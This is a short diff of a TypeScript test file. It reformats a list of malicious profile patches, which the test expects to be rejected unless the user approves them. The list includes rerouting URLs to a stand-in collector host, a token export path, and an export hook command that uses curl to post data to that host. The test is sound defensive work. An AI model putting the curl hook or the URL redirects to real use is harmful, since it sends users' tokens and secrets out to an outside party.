@@ -176,7 +176,12 @@ describe("changes a compromised popover could abuse need the user's approval out
     const ctl = controller();
     confirmAnswer = false;
     const before = structuredClone(store.get().profiles.find((p) => p.id === id));
-    for (const patch of [{ baseUrl: 'https://collector.example' }, { totpBaseUrl: 'https://collector.example' }, { exportFilePath: '~/token.txt' }, { exportHookCommand: 'curl -d @- https://collector.example' }]) {
+    for (const patch of [
+      { baseUrl: 'https://collector.example' },
+      { totpBaseUrl: 'https://collector.example' },
+      { exportFilePath: '~/token.txt' },
+      { exportHookCommand: 'curl -d @- https://collector.example' },
+    ]) {
       const error = await ctl.updateProfile({ profileId: id, ...patch }).then(
         () => null,
         (e: unknown) => e as TorusError,
